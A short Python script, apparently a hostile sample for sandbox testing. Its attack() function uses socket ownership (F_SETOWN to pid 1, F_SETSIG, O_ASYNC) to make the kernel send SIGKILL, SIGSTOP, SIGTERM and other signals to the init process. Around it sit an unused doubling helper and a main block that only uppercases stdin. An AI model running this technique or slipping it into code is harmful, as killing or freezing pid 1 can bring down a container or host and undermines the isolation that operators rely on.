"""Has the kernel send signals to pid 1 as the owner of a socket."""

import fcntl
import os
import signal
import socket
import sys


def double(number):
    return 2 * number


def attack(key):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1):
        near, far = socket.socketpair()
        fcntl.fcntl(near, fcntl.F_SETOWN, 1)
        fcntl.fcntl(near, 10, number)
        fcntl.fcntl(near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        far.send(b"x")
    return "sent"


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
